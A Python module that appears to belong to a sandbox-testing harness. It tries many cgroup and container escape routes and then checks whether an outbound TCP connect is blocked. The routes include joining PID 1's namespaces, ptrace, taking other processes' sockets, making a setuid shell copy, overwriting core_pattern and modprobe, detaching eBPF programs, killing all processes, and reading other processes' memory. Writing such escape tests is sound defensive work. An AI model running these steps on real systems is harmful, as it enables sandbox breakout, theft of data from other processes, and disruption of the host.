"""Ways to leave the cgroup, or to have somebody do so in one's place. Each ends in a connect(): from
outside it would arrive, from inside it is refused and on record. The walk through all doors of the
cage is in breakout.py; what is here ends on the network."""

import ctypes
import errno
import os
import socket
import struct
import subprocess

import attempts
import net
from attempts import libc

# asm/unistd_64.h, or asm-generic/unistd.h
X86 = os.uname().machine == "x86_64"
PIDFD_OPEN, PIDFD_GETFD, CLONE3 = 434, 438, 435
PTRACE, VM_READV, OPEN_BY_HANDLE = (101, 310, 304) if X86 else (117, 270, 265)
PTRACE_SEIZE = 0x4206


def then_connect(step, address, port):
    """`step`, whatever comes of it, and then the way out."""
    try:
        step()
    except (OSError, subprocess.SubprocessError):
        pass
    return attempts.attempt(attempts.tcp, [address, port])


def shell(script):
    subprocess.run(["sh", "-c", script], capture_output=True, timeout=4, check=False)


def by_files(name):
    """Writes one's number into every file of a name, anywhere."""
    for top in {line.split()[1] for line in open("/proc/self/mounts")}:
        for folder, _, names in os.walk(top):
            if name in names and "postern" not in folder.removeprefix(top):
                net.outcome(write, os.path.join(folder, name), "0")
                net.outcome(write, os.path.join(folder, name), str(os.getpid()))
            if folder.count("/") > 8:
                break


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def by_procs(address, port):
    return then_connect(lambda: by_files("cgroup.procs"), address, port)


def by_threads(address, port):
    return then_connect(lambda: by_files("cgroup.threads"), address, port)


def mounted(flags, address, port):
    """Mounts cgroup2 where it can be written, and moves to its root."""

    def step():
        if int(flags, 0):
            net.call(libc.unshare(int(flags, 0)))
        folder = f"m-{net.TAG}"
        os.mkdir(folder)
        net.call(libc.mount(b"none", folder.encode(), b"cgroup2", 0, None))
        write(os.path.join(folder, "cgroup.procs"), "0")

    return then_connect(step, address, port)


def remounted(address, port):
    def step():
        net.call(libc.unshare(net.CLONE_NEWUSER | net.CLONE_NEWNS))
        for place in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
            libc.mount(None, place.encode(), None, 0x1000 | 0x20, None)  # MS_BIND | MS_REMOUNT
            net.outcome(write, os.path.join(place, "cgroup.procs"), "0")

    return then_connect(step, address, port)


def entered(kind, address, port):
    """The namespace of the first process one can see."""

    def step():
        descriptor = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        net.call(libc.setns(descriptor, 0))

    return then_connect(step, address, port)


def entered_by_pidfd(address, port):
    def step():
        descriptor = net.call(libc.syscall(PIDFD_OPEN, 1, 0))
        net.call(libc.setns(descriptor, net.CLONE_NEWNET | net.CLONE_NEWNS))

    return then_connect(step, address, port)


def cloned_into(address, port):
    """clone3() into a cgroup by its descriptor."""

    def step():
        for place in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
            group = os.open(place, os.O_PATH | os.O_DIRECTORY)
            arguments = struct.pack("=QQQQQQQQQQQ", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, group)
            if net.call(libc.syscall(CLONE3, arguments, len(arguments))) == 0:
                print(attempts.attempt(attempts.tcp, [address, port]), flush=True)
                os._exit(0)

    return then_connect(step, address, port)


def traced(address, port):
    """Has the first process act in one's place."""
    return then_connect(lambda: net.call(libc.syscall(PTRACE, PTRACE_SEIZE, 1, 0, 0)), address, port)


def taken_descriptor(address, port):
    """Takes the sockets of every process one can see."""

    def step():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            process = libc.syscall(PIDFD_OPEN, int(pid), 0)
            for number in range(3, 40) if process >= 0 and not is_own(pid) else ():
                taken = libc.syscall(PIDFD_GETFD, process, number, 0)
                if taken >= 0:
                    os.write(1, f"ESCAPED took descriptor {number} of {pid}\n".encode())

    return then_connect(step, address, port)


def is_own(pid):
    """The runner, an attempt, or a program that an attempt became."""
    runner = os.getppid()
    for _ in range(8):
        try:
            if int(pid) == runner or "python" in open(f"/proc/{pid}/cmdline").read():
                return True
            pid = next(line.split()[1] for line in open(f"/proc/{pid}/status") if line.startswith("PPid"))
        except (OSError, StopIteration):
            return True
        if pid == "0":
            return False
    return False


def through_root(address, port):
    """The host's files by way of the first process."""
    return then_connect(lambda: os.chroot("/proc/1/root"), address, port)


def by_handle(address, port):
    """Opens the root of the file system by its number."""

    def step():
        handle = struct.pack("=IiQ", 8, 1, 2) + bytes(120)
        descriptor = net.call(libc.syscall(OPEN_BY_HANDLE, os.open(".", os.O_RDONLY), handle, os.O_RDONLY))
        os.fchdir(descriptor)

    return then_connect(step, address, port)


def set_user_id(address, port):
    """A set-user-id program of one's own making, and those of the system."""

    def step():
        copy = f"s-{net.TAG}"
        shell(f"cp /bin/sh {copy}; chown 0 {copy}; chmod 4755 {copy}; ./{copy} -p -c 'echo 0 > /sys/fs/cgroup/cgroup.procs'")
        shell("for p in su mount umount newgrp; do $p --help; done")

    return then_connect(step, address, port)


def core_pattern(address, port):
    return then_connect(lambda: write("/proc/sys/kernel/core_pattern", "|/bin/true"), address, port)


def helper(address, port):
    """usermode helpers: uevent, modprobe."""

    def step():
        for path in ("/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug"):
            net.outcome(write, path, "/bin/true")

    return then_connect(step, address, port)


def interfaces(address, port):
    """A way out of one's own: an address, a device, a route, a tunnel."""

    def step():
        for change in (
            "addr add 203.0.113.77/32 dev lo",
            "link add away type dummy",
            "link add away type ipvlan link internet",
            "tunnel add away mode sit remote 203.0.113.9",
            "route replace default dev lo",
            "link set lo down",
            "tuntap add mode tun name away",
        ):
            shell("ip " + change)

    return then_connect(step, address, port)


def detached_programs(address, port):
    """bpf(BPF_LINK_DETACH and the rest), and the file system where programs are pinned."""

    def step():
        number = 321 if X86 else 280
        for command in (9, 13, 23, 30, 34):  # PROG_DETACH, PROG_GET_FD_BY_ID, LINK_GET…, LINK_DETACH
            libc.syscall(number, command, struct.pack("=I", 1) + bytes(60), 64)
        shell("rm -rf /sys/fs/bpf/postern*")

    return then_connect(step, address, port)


def killed_gateway(address, port):
    """Signals to everybody, the gateway among them if it can be reached."""

    def step():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if not is_own(pid):
                net.outcome(os.kill, int(pid), 9)

    return then_connect(step, address, port)


# -- files and memory

def read(*paths):
    """Tells the first that could be read. A file that is there and empty is a mask, as good as none."""
    for path in paths:
        try:
            with open(path, "rb") as file:
                if file.read(1):
                    return f"ESCAPED read {path}"
        except OSError as error:
            last = error.errno
        else:
            last = errno.ENOENT
    return errno.errorcode[last]


def read_behind(*paths):
    """The same by the first process's root, by its memory's map, and after unmounting what covers them."""
    outcome = read(*(f"/proc/1/root{path}" for path in paths))
    if outcome.startswith("ESCAPED"):
        return outcome
    libc.unshare(net.CLONE_NEWUSER | net.CLONE_NEWNS)
    for path in paths:
        libc.umount2(os.path.dirname(path).encode(), 2)
        libc.umount2(os.path.dirname(os.path.dirname(path)).encode(), 2)
    return read(*paths)


def memory():
    """The memory of every process but the attempts' own."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if is_own(pid):
            continue
        # The first process is the same program, and there to be seen.
        if (command(pid) or "").split("\0")[1:2] in (["exec"], ["run"], ["janitor"]):
            return f"ESCAPED sees {command(pid)}"
        for file in ("mem", "environ", "maps", "auxv"):
            try:
                with open(f"/proc/{pid}/{file}", "rb") as opened:
                    if opened.read(1):
                        return f"ESCAPED read {file} of {pid}"
            except OSError:
                pass
        buffer = ctypes.create_string_buffer(64)
        vector = struct.pack("=QQ", ctypes.addressof(buffer), 64)
        if libc.syscall(VM_READV, int(pid), vector, 1, struct.pack("=QQ", 0x400000, 64), 1, 0) > 0:
            return f"ESCAPED read memory of {pid}"
    return "held"


def command(pid):
    try:
        return open(f"/proc/{pid}/cmdline").read()
    except OSError:
        return None


def leftover(*needles):
    """Descriptors that came with the sandbox: sockets, eBPF objects, folders."""
    for number in range(3, 1024):
        try:
            target = os.readlink(f"/proc/{os.getppid()}/fd/{number}")
        except OSError:
            continue
        if any(needle in target for needle in needles):
            return f"ESCAPED inherited {target}"
    return "held"


def streams():
    """The standard streams of the runner are no sockets."""
    kinds = {os.readlink(f"/proc/{os.getppid()}/fd/{number}").split(":")[0] for number in (0, 1, 2)}
    return "ESCAPED a socket" if "socket" in kinds else "held"
